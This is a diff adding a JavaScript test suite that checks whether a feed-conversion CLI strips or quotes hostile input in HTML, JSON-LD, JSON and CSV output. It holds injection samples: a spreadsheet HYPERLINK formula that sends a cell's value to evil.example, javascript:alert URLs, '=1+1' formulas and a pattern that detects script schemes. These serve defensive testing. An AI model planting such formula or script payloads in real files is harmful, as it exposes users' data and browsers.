@@ -332,6 +332,139 @@ describe('good-practice-browser prerender (E-05, E-15)', () => {
   });
 });
 
+describe('a hostile feed', () => {
+  const hostile = `${feeds}/hostile.json`;
+  const literal = 'https://feed.invalid/=HYPERLINK("https://evil.example/?x="&A1,"click")';
+  const dead = 'https://feed.invalid/javascript:alert(8)';
+  /** What its honest relative addresses become; `up` leads from where they are written to the feed. */
+  const linksFrom = (up) => [
+    `${up}pages/a.html?b=https://feed.invalid/#c`,
+    `${up}../other/a.html`,
+    '/top.html',
+    `${up || './'}12:30.html`,
+    `${up || './'}/evil.example/x`,
+    'https://city.example/x',
+    up || './',
+    'https://feed.invalid/x',
+  ];
+  const urlsOf = ({links = []}) => links.map(({url}) => url);
+
+  it('gets no script into the HTML, and no text is changed', () => {
+    const {stdout} = run(['prerender', hostile]);
+    const hrefs = [...stdout.matchAll(/href="([^"]*)"/g)].map(([, href]) => href);
+    assert.deepEqual(hrefs, [dead, '-1+2.html']);
+    assert.ok(stdout.includes('<b>A script after a dot</b>'));
+    assert.ok(stdout.includes('>https://feed.invalid/=HYPERLINK('));
+    assert.ok(stdout.includes('<p>https://feed.invalid/=1+1</p>'));
+  });
+
+  it('gets no script into the JSON-LD', () => {
+    const {stdout} = run(['prerender', hostile]);
+    const {itemListElement} = JSON.parse(/<script type="application\/ld\+json">(.*)<\/script>/.exec(stdout)[1]);
+    assert.deepEqual(
+      itemListElement.map(({item}) => [item.name, item.url, item.image]),
+      [
+        ['A script after a dot', undefined, undefined],
+        [literal, dead, undefined],
+        ['=1+1', undefined, undefined],
+        ['Honest addresses', '-1+2.html', 'images/a.png'],
+      ],
+    );
+  });
+
+  it('gets no script into our own format, and honest addresses stay relative', () => {
+    const {practices} = JSON.parse(run(['convert', hostile, '--to', 'json']).stdout);
+    const [script, formula, data, relative] = practices;
+    assert.deepEqual(script, {id: 'script', title: 'A script after a dot', city: 'Leeds'});
+    assert.deepEqual([formula.title, formula.summary, formula.url], [literal, 'https://feed.invalid/=1+1', dead]);
+    assert.deepEqual([data.url, data.sections[0].base], [undefined, undefined]);
+    assert.equal(relative.url, '-1+2.html');
+    assert.deepEqual(urlsOf(relative), linksFrom(''));
+    assert.equal(relative.image.src, 'images/a.png');
+    assert.deepEqual(relative.contact, {name: 'https://feed.invalid/', url: 'contact.html'});
+    assert.deepEqual(relative.sections, [{html: '<p>https://feed.invalid/</p>', base: 'hostile.json'}]);
+  });
+
+  it('gets no formula and no script into a table', () => {
+    const {stdout} = run(['convert', hostile, '--to', 'csv']);
+    assert.ok(stdout.includes(`"${literal.replaceAll('"', '""')}"`));
+    assert.ok(stdout.includes('"https://feed.invalid/=1+1"'));
+    assert.ok(stdout.includes(`"${dead}"`));
+    assert.ok(stdout.includes(`"'=1+1"`));
+    assert.ok(stdout.includes(`"'-1+2.html"`));
+    assert.doesNotMatch(stdout, /"\s*[=+@-]/);
+    assert.doesNotMatch(stdout.replaceAll(dead, ''), /javascript:|vbscript:|data:/);
+  });
+
+  it('gets no script into a feed in parts, whose addresses start from each part', () => {
+    const folder = mkdtempSync(join(tmpdir(), 'gpb-split-'));
+    try {
+      assert.equal(run(['convert', hostile, '--to', folder, '--split']).status, 0);
+      const read = (name) => JSON.parse(readFileSync(join(folder, name), 'utf8'));
+      assert.deepEqual(
+        read('feed.json').practices.map(({details, id, url}) => [id, url, details]),
+        [
+          ['script', undefined, undefined],
+          ['formula', dead, undefined],
+          ['data', undefined, 'details/data.json'],
+          ['relative', '-1+2.html', 'details/relative.json'],
+        ],
+      );
+      assert.deepEqual(urlsOf(read('texts.json').practices[1]), linksFrom(''));
+      const details = read('details/relative.json');
+      assert.deepEqual(urlsOf(details), linksFrom('../'));
+      assert.equal(details.url, '../-1+2.html');
+      assert.equal(details.sections[0].base, '../hostile.json');
+      assert.equal(read('details/data.json').url, undefined);
+      assert.equal(read('details/data.json').sections[0].base, undefined);
+    } finally {
+      rmSync(folder, {recursive: true});
+    }
+  });
+
+  it('finds no other meaning for its address and its texts where it is fetched', async () => {
+    const feed = JSON.stringify([
+      {id: 'a', title: 'https://feed.invalid/=1+1', url: 'https://feed.invalid/javascript:alert(1)', links: ['?b']},
+    ]);
+    const server = createServer((_, response) => response.end(feed));
+    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const address = `http://127.0.0.1:${server.address().port}/https://feed.invalid/javascript:alert(2)`;
+      const json = await runBeside(['convert', address, '--to', 'json']);
+      const [{links, title, url}] = JSON.parse(json.stdout).practices;
+      assert.deepEqual(
+        [title, url, links],
+        ['https://feed.invalid/=1+1', 'https://feed.invalid/javascript:alert(1)', [{url: `${address}?b`}]],
+      );
+      const csv = await runBeside(['convert', address, '--to', 'csv']);
+      assert.ok(csv.stdout.includes('"https://feed.invalid/=1+1"'));
+      const html = await runBeside(['prerender', address]);
+      assert.match(html.stdout, /<a href="https:\/\/feed\.invalid\/javascript:alert\(1\)">/);
+      const report = await runBeside(['check', address]);
+      assert.ok(report.stdout.startsWith(address), report.stdout);
+    } finally {
+      server.close();
+    }
+  });
+
+  it('is read in the same way at every run, and from the place that --base names', () => {
+    const twins = JSON.stringify(['a', 'b'].map((name) => ({title: 'Twin', city: 'Leeds', url: `${name}.html`})));
+    const convert = () => run(['convert', '-', '--to', 'json'], twins).stdout;
+    assert.equal(new Set(JSON.parse(convert()).practices.map(({id}) => id)).size, 2);
+    assert.equal(convert(), convert());
+    const {stdout} = run(['convert', hostile, '--to', 'json', '--base', 'https://city.example/data/feed.json']);
+    assert.equal(JSON.parse(stdout).practices[3].links[1].url, 'https://city.example/other/a.html');
+  });
+
+  it('is called by its name in messages, whatever its texts say', () => {
+    const broken = '["https://feed.invalid/javascript:alert(1)", x]';
+    const {stderr} = run(['convert', '-', '--to', 'json'], broken);
+    assert.match(stderr, /^standard input is not, or not all of, the JSON of a feed\./);
+    const checked = run(['check', hostile]);
+    assert.doesNotMatch(checked.stdout, /[\da-f]{8}-[\da-f]{4}-/);
+  });
+});
+
 describe('good-practice-browser', () => {
   const {version} = JSON.parse(readFileSync('package.json', 'utf8'));
   it('says what it does, and which version it is', () => {
